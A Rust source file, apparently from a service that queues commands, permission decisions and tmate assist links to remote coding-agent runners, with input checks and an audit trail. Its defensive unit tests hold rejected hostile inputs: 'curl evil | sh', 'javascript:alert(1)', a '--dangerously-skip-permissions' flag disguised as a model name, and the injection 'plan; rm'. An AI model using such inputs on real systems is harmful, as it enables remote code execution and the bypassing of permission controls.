//! What a command may be: the checks of what a person queues (commands, permission decisions)
//! and of the assist links a runner posts, and queueing itself (stored, then the run's bell
//! rung). The routes are `routes/commands.rs`.

use common::wire::{self, AssistLink, Command, CommandKind, PermissionChoice};
use serde::Deserialize;
use serde_json::json;

use crate::audit;
use crate::clock::now_ms;
use crate::error::ApiError;
use crate::live::Live;
use crate::store::Store;

/// Longest a long poll may wait, in seconds.
pub const MAX_WAIT_SECS: u64 = 30;
/// Longest `exec` command line and `prompt` text accepted, in bytes.
pub const MAX_COMMAND_BYTES: usize = 4096;
pub const MAX_PROMPT_BYTES: usize = 32 * 1024;
/// Longest assist link accepted, in bytes.
pub const MAX_LINK_BYTES: usize = 2048;

/// Check what the admin asks for before it is queued.
pub fn check_kind(kind: &CommandKind) -> Result<(), ApiError> {
    match kind {
        CommandKind::Exec { command } => {
            if command.trim().is_empty() {
                return Err(ApiError::bad_request("invalid_field", "command is empty"));
            }
            if command.len() > MAX_COMMAND_BYTES {
                return Err(ApiError::bad_request(
                    "invalid_field",
                    format!("command is longer than {MAX_COMMAND_BYTES} bytes"),
                ));
            }
        }
        CommandKind::Prompt {
            prompt,
            model,
            permission_mode,
        } => {
            if prompt.trim().is_empty() {
                return Err(ApiError::bad_request("invalid_field", "prompt is empty"));
            }
            if prompt.len() > MAX_PROMPT_BYTES {
                return Err(ApiError::bad_request(
                    "invalid_field",
                    "prompt is longer than 32 KiB",
                ));
            }
            // The runner decides what it allows; here only the shape (it becomes an argument).
            for (name, v) in [("model", model), ("permission_mode", permission_mode)] {
                if v.as_deref().is_some_and(|v| !plain_name(v)) {
                    return Err(ApiError::bad_request(
                        "invalid_field",
                        format!(
                            "{name} must be 1 to 128 characters of [A-Za-z0-9._:/@[]-], not starting with -"
                        ),
                    ));
                }
            }
        }
        CommandKind::File { path } => {
            if path.trim().is_empty() || path.len() > MAX_COMMAND_BYTES {
                return Err(ApiError::bad_request(
                    "invalid_field",
                    format!("path must be 1 to {MAX_COMMAND_BYTES} bytes"),
                ));
            }
            if path.chars().any(char::is_control) {
                return Err(ApiError::bad_request(
                    "invalid_field",
                    "path holds a control character",
                ));
            }
        }
        CommandKind::Stop | CommandKind::Interrupt | CommandKind::EndSession => {}
        CommandKind::Assist { .. } => {
            return Err(ApiError::bad_request(
                "invalid_field",
                "assist links are posted by the runner, not queued as commands",
            ));
        }
        CommandKind::Permission { .. } => {
            return Err(ApiError::bad_request(
                "invalid_field",
                "decisions are posted to /api/runs/:id/permissions/:request_id",
            ));
        }
    }
    Ok(())
}

/// A model or permission mode name: safe as a command-line argument.
fn plain_name(v: &str) -> bool {
    !v.is_empty()
        && v.len() <= 128
        && !v.starts_with('-')
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || "._:/@[]-".contains(c))
}

/// `POST /api/runs/:id/permissions/:request_id` body.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DecisionBody {
    pub decision: PermissionChoice,
    #[serde(default)]
    pub message: Option<String>,
    #[serde(default)]
    pub rule: Option<String>,
}

/// Check a decision before it is queued: a message only with `deny`, a rule only with
/// `allow_run`, both bounded and free of control characters (a message may hold line breaks).
pub fn check_decision(d: &DecisionBody) -> Result<(), ApiError> {
    let bad = |m: &str| Err(ApiError::bad_request("invalid_field", m.to_string()));
    if d.message.is_some() && d.decision != PermissionChoice::Deny {
        return bad("message goes with decision \"deny\"");
    }
    if d.rule.is_some() && d.decision != PermissionChoice::AllowRun {
        return bad("rule goes with decision \"allow_run\"");
    }
    let max = wire::MAX_PERMISSION_MESSAGE_BYTES;
    if let Some(m) = &d.message
        && (m.len() > max || m.chars().any(|c| c.is_control() && c != '\n' && c != '\t'))
    {
        return bad("message must be at most 4096 bytes without control characters");
    }
    if let Some(r) = &d.rule
        && (r.trim().is_empty() || r.len() > max || r.chars().any(char::is_control))
    {
        return bad("rule must be 1 to 4096 bytes without control characters");
    }
    Ok(())
}

/// Queue a person's decision on a waiting permission request, stamped with who decided: the
/// run must be live and list `request_id` among its waiting requests (else `400 not_pending`).
/// The one path of the permission route and of a push notification's actions.
pub async fn decide(
    store: &dyn Store,
    live: &Live,
    run_id: &str,
    request_id: String,
    d: DecisionBody,
    by: &str,
) -> Result<Command, ApiError> {
    check_decision(&d)?;
    require_live_run(store, run_id).await?;
    let waiting = store
        .run(run_id.to_string())
        .await?
        .and_then(|r| r.summary.claude)
        .is_some_and(|c| c.pending_requests.contains(&request_id));
    if !waiting {
        return Err(ApiError::bad_request(
            "not_pending",
            "no permission request with this id waits for a decision",
        ));
    }
    let kind = CommandKind::Permission {
        request_id,
        decision: d.decision,
        message: d.message,
        rule: d.rule,
        by: by.to_string(),
    };
    queue(store, live, run_id, kind).await
}

/// Check a link before it is queued: tmate only, bounded, printable, plausible schemes.
pub fn check_link(link: &AssistLink) -> Result<(), ApiError> {
    let bad = |m: &str| Err(ApiError::bad_request("invalid_field", m.to_string()));
    if link.kind != "tmate" {
        return bad("type must be \"tmate\"");
    }
    let fields = [&link.url, &link.web, &link.reason];
    if fields.iter().any(|f| {
        f.as_ref()
            .is_some_and(|s| s.len() > MAX_LINK_BYTES || s.chars().any(char::is_control))
    }) {
        return bad("assist fields must be printable and at most 2048 bytes");
    }
    if link.url.as_ref().is_some_and(|u| !u.starts_with("ssh ")) {
        return bad("url must be an ssh command (\"ssh …\")");
    }
    if link
        .web
        .as_ref()
        .is_some_and(|w| !w.starts_with("https://"))
    {
        return bad("web must be an https:// link");
    }
    if !link.closed && link.url.is_none() {
        return bad("an open assist link needs url");
    }
    Ok(())
}

/// Refuse work for a run that has ended (404 if there is no such run).
pub async fn require_live_run(store: &dyn Store, id: &str) -> Result<wire::RunStatus, ApiError> {
    let run = crate::http::stored_run(store, id).await?;
    if run.summary.status.is_terminal() {
        return Err(ApiError::bad_request(
            "run_finished",
            "the run has ended and takes no more commands",
        ));
    }
    Ok(run.summary.status)
}

/// Queue a command and wake the runner's long poll.
pub async fn queue(
    store: &dyn Store,
    live: &Live,
    id: &str,
    kind: CommandKind,
) -> Result<Command, ApiError> {
    let command = store
        .enqueue_command(id.to_string(), kind, now_ms())
        .await?;
    live.ring(id);
    Ok(command)
}

/// The audit line of a queued command: `prompt_sent`, `run_stopped`, `approval_decided`, or
/// `command_sent` with its kind.
pub fn audit_event(run_id: &str, command: &Command) -> audit::Event {
    let event = |action| audit::Event::new(action).run(run_id).target(&command.id);
    match &command.kind {
        CommandKind::Prompt {
            prompt,
            model,
            permission_mode,
        } => event("prompt_sent").detail(json!({
            "prompt": audit::excerpt(prompt),
            "model": model,
            "permission_mode": permission_mode,
        })),
        CommandKind::Stop => event("run_stopped"),
        CommandKind::Permission {
            request_id,
            decision,
            message,
            rule,
            ..
        } => event("approval_decided").detail(json!({
            "request_id": request_id,
            "decision": decision,
            "message": message.as_deref().map(audit::excerpt),
            "rule": rule,
        })),
        CommandKind::Exec { command } => {
            event("command_sent").detail(json!({ "kind": "exec", "command": command }))
        }
        CommandKind::File { path } => {
            event("command_sent").detail(json!({ "kind": "file", "path": path }))
        }
        CommandKind::Interrupt => event("command_sent").detail(json!({ "kind": "interrupt" })),
        CommandKind::EndSession => event("command_sent").detail(json!({ "kind": "end_session" })),
        CommandKind::Assist { .. } => event("assist_link"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn admin_commands_are_checked() {
        let exec = |c: &str| CommandKind::Exec { command: c.into() };
        assert!(check_kind(&exec("git status")).is_ok());
        assert!(check_kind(&exec("  ")).is_err());
        assert!(check_kind(&exec(&"x".repeat(5000))).is_err());
        assert!(check_kind(&CommandKind::Stop).is_ok());
        assert!(check_kind(&CommandKind::Interrupt).is_ok());
        assert!(check_kind(&CommandKind::EndSession).is_ok());
        let file = |p: &str| CommandKind::File { path: p.into() };
        assert!(check_kind(&file("src/main.rs")).is_ok());
        assert!(check_kind(&file(" ")).is_err());
        assert!(check_kind(&file("a\nb")).is_err());
        let prompt = |model: Option<&str>, mode: Option<&str>| CommandKind::Prompt {
            prompt: "go on".into(),
            model: model.map(String::from),
            permission_mode: mode.map(String::from),
        };
        assert!(
            check_kind(&CommandKind::Prompt {
                prompt: String::new(),
                model: None,
                permission_mode: None,
            })
            .is_err()
        );
        assert!(check_kind(&prompt(Some("claude-opus-4-1[1m]"), Some("acceptEdits"))).is_ok());
        assert!(check_kind(&prompt(Some("--dangerously-skip-permissions"), None)).is_err());
        assert!(check_kind(&prompt(None, Some("plan; rm"))).is_err());
        let permission = CommandKind::Permission {
            request_id: "pr_1".into(),
            decision: PermissionChoice::Allow,
            message: None,
            rule: None,
            by: "someone else".into(),
        };
        assert!(
            check_kind(&permission).is_err(),
            "only the decision route stamps `by`"
        );
        let d = |decision, message: Option<&str>, rule: Option<&str>| DecisionBody {
            decision,
            message: message.map(String::from),
            rule: rule.map(String::from),
        };
        assert!(check_decision(&d(PermissionChoice::Deny, Some("not now,\nplease"), None)).is_ok());
        assert!(
            check_decision(&d(
                PermissionChoice::AllowRun,
                None,
                Some("Bash(git status:*)")
            ))
            .is_ok()
        );
        assert!(check_decision(&d(PermissionChoice::Allow, Some("x"), None)).is_err());
        assert!(check_decision(&d(PermissionChoice::Deny, None, Some("Edit"))).is_err());
        assert!(check_decision(&d(PermissionChoice::Deny, Some("\u{1b}[2J"), None)).is_err());
        assert!(check_decision(&d(PermissionChoice::AllowRun, None, Some(" "))).is_err());
        let link = AssistLink {
            kind: "tmate".into(),
            url: Some("ssh a@b".into()),
            web: Some("https://b".into()),
            expires_at: None,
            closed: false,
            reason: None,
        };
        assert!(check_link(&link).is_ok());
        assert!(
            check_kind(&CommandKind::Assist {
                assist: link.clone()
            })
            .is_err(),
            "the admin cannot forge assist links"
        );
        let mut bad = link.clone();
        bad.url = Some("curl evil | sh".into());
        assert!(check_link(&bad).is_err());
        let mut bad = link.clone();
        bad.web = Some("javascript:alert(1)".into());
        assert!(check_link(&bad).is_err());
        let mut bad = link;
        bad.url = Some("ssh a@b\nX".into());
        assert!(check_link(&bad).is_err());
    }
}
